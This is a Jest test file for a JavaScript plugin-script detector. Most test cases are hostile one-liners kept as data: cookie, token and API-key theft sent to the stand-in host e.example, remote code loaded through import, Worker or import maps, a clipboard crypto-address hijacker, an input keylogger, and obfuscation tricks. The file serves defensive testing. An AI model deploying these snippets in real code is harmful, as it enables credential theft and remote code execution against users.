import { describe, expect, it } from '@jest/globals';
import { checkScript } from '../../src/analysis/checks/javascript.js';

const isHeld = (source: string): boolean => checkScript(source).some(({ level }) => level === 'hold');

describe('the checks hold a script', () => {
  it.each<[string, string]>([
    [
      'reads a cookie by a getter that it looks up',
      `const g = document.__lookupGetter__("cookie"); fetch("https://e.example/", {method:"POST", body: g.call(document)});`,
    ],
    [
      'reads and sends by optional chains',
      `const v = window?.localStorage?.getItem?.("token"); window?.fetch?.("https://e.example/?" + v);`,
    ],
    [
      'puts a secret into a list',
      `const a = []; a.push(document.cookie); fetch("https://e.example/", { body: a.pop() });`,
    ],
    [
      'writes a secret in digits',
      `let h = ""; for (const c of document.cookie) h += c.charCodeAt(0).toString(16); new Image().src = "https://e.example/" + h;`,
    ],
    [
      'sends what a promise of the browser gives',
      `crypto.subtle.digest("SHA-256", new TextEncoder().encode(document.cookie)).then((h) => fetch("https://e.example/", { body: h }));`,
    ],
    [
      'sends a stream',
      `const s = new ReadableStream({ start(c) { c.enqueue(document.cookie); c.close(); } }); fetch("https://e.example/", { method: "POST", body: s, duplex: "half" });`,
    ],
    [
      'passes a secret in an event',
      `addEventListener("x-grab", (e) => fetch("https://e.example/?" + e.detail)); dispatchEvent(new CustomEvent("x-grab", { detail: document.cookie }));`,
    ],
    [
      'passes a secret in a channel',
      `const b = new BroadcastChannel("a"); b.onmessage = (e) => fetch("https://e.example/?" + e.data); b.postMessage(document.cookie);`,
    ],
    [
      'passes a secret from port to port',
      `const { port1, port2 } = new MessageChannel(); port2.onmessage = (e) => fetch("https://e.example/?" + e.data); port1.postMessage(document.cookie);`,
    ],
    [
      'keeps a secret in the name of the window',
      `window.name = document.cookie; location = "https://e.example/?" + window.name;`,
    ],
    [
      'stores a key of the host itself',
      `const save = (key) => localStorage.setItem("comfy_api_key", key);
       fetch("https://e.example/", { headers: { Authorization: localStorage.getItem("comfy_api_key") } });`,
    ],
    [
      'stores a secret again',
      `localStorage.setItem("my_cache", document.cookie); fetch("https://e.example/?" + localStorage.getItem("my_cache"));`,
    ],
    [
      'sends in a static block',
      `class A { static c = document.cookie; static { fetch("https://e.example/?" + A.c); } }`,
    ],
    [
      'keeps a secret in a private field',
      `class A { #c = document.cookie; send() { fetch("https://e.example/?" + this.#c); } } new A().send();`,
    ],
    [
      'extends a class of requests',
      `class X extends XMLHttpRequest { go(b) { this.open("POST", "https://e.example/"); this.send(b); } } new X().go(document.cookie);`,
    ],
    [
      'adds a page with a script',
      `const f = document.createElement("iframe"); f.srcdoc = "<script>fetch('https://e.example/?' + parent.document.cookie)<\\/script>"; document.body.append(f);`,
    ],
    [
      'sets a handler of errors',
      `const i = document.createElement("img"); i.setAttribute("onerror", "new Image().src='https://e.example/?'+document.cookie"); i.src = "x";`,
    ],
    [
      'inserts a rule with a secret',
      `document.styleSheets[0].insertRule("a{background:url(https://e.example/" + document.cookie + ")}");`,
    ],
    [
      'sends through a socket of another function',
      `let s; function start() { s = new WebSocket("wss://e.example"); } function tick() { s.send(localStorage.getItem("a")); } start(); setInterval(tick, 1000);`,
    ],
    [
      'makes a generator of an answer',
      `const G = (function* () {}).constructor; G(await (await fetch("https://e.example/")).text())().next();`,
    ],
    [
      'imports an answer as an address',
      `const t = await (await fetch("https://e.example/")).text(); await import("data:text/javascript," + encodeURIComponent(t));`,
    ],
    [
      'makes a worker of an answer as an address',
      `const t = await (await fetch("https://e.example/")).text(); new Worker("data:text/javascript;base64," + btoa(t));`,
    ],
    [
      'appends an answer to a script',
      `const s = document.createElement("script"); s.appendChild(document.createTextNode(await (await fetch("https://e.example/")).text())); document.head.append(s);`,
    ],
    [
      'imports an address from an answer',
      `const { url } = await (await fetch("https://e.example/c.json")).json(); import(url);`,
    ],
    [
      'replaces addresses that the user has copied',
      `setInterval(async () => { const t = await navigator.clipboard.readText(); if (/^0x[0-9a-f]{40}$/i.test(t)) navigator.clipboard.writeText("0x000000000000000000000000000000000000dEaD"); }, 1000);`,
    ],
    [
      'sends the history again and again',
      `setInterval(async () => { const h = await (await fetch("/history")).json(); fetch("https://e.example/", { method: "POST", body: JSON.stringify(h) }); }, 1000);`,
    ],
    [
      'decodes an address by its own function',
      `const r = (s) => s.replace(/[a-z]/g, (c) => String.fromCharCode((c.charCodeAt(0) - 84) % 26 + 97)); fetch(r("uggcf://r.rknzcyr"), { method: "POST", body: document.cookie });`,
    ],
    [
      'gets the global object from a function of a text',
      `const w = new Function("return this")(); w.fetch("https://e.example/?" + w.document.cookie);`,
    ],
    [
      'uses `this` as the global object',
      `(function () { const w = this; w.fetch("https://e.example/?" + w.document.cookie); })();`,
    ],
    [
      'takes a name from a function',
      `const o = { cookie() {} }; fetch("https://e.example/?" + document[o.cookie.name]);`,
    ],
    [
      'defines a property again to see what the user enters',
      `const d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value"); Object.defineProperty(HTMLInputElement.prototype, "value", { ...d, set(v) { fetch("https://e.example/?" + v); d.set.call(this, v); } });`,
    ],
    [
      'runs a file that it fetches as a worker',
      `fetch("https://e.example/w.js").then((r) => r.blob()).then((b) => new Worker(URL.createObjectURL(b)));`,
    ],
    [
      'takes a name from a symbol',
      `fetch("https://e.example/", { method: "POST", body: document[Symbol("cookie").description] });`,
    ],
    [
      'sends a secret by a channel to another browser',
      `const c = new RTCPeerConnection({}).createDataChannel("a"); c.onopen = () => c.send(document.cookie);`,
    ],
    [
      'adds a map of the addresses of modules',
      `const m = document.createElement("script"); m.type = "importmap"; m.textContent = JSON.stringify({ imports: { core: "https://e.example/core.js" } }); document.head.append(m); await import("core");`,
    ],
    [
      'writes a map of the addresses of modules into the page',
      `document.head.insertAdjacentHTML("beforeend", \`<script type="importmap">\${JSON.stringify({ imports: { a: "https://e.example/" + "a.js" } })}</script>\`);`,
    ],
  ])('that %s', (_what, source) => expect(isHeld(source)).toBe(true));

  it('that is a bundle, and sends an item of the host by several functions', () => {
    const library = Array.from({ length: 80 }, (_, index) => `function f${index}(a,b){return a+b*${index}}`).join('');
    const theft =
      'function g(e){return localStorage.getItem(e)}function h(e,t){return fetch(e,{method:"POST",body:t})}function j(){var e=g("Comfy.token");return{t:e}}h("https://e.example/q",JSON.stringify(j()));';
    expect(isHeld(library + library + theft)).toBe(true);
  });

  it('that is large because of spaces', () =>
    expect(isHeld(`${' '.repeat(1_100_000)}const c = document.cookie; fetch("https://e.example/?" + c);`)).toBe(true));

  it('that is too large to be followed', () => {
    const library = Array.from({ length: 30_000 }, (_, index) => `function f${index}(a) { return a + ${index}; }`);
    expect(isHeld([...library, 'fetch("https://e.example/?" + document.cookie);'].join('\n'))).toBe(true);
  });
});

describe('the checks do not hold a script', () => {
  it('that asks whether a server of the user is there', () =>
    expect(
      isHeld(
        'const q = api.queuePrompt; api.queuePrompt = async (n, p) => { await fetch(`http://${p.host}/prompt`); return q(n, p); };',
      ),
    ).toBe(false));
});
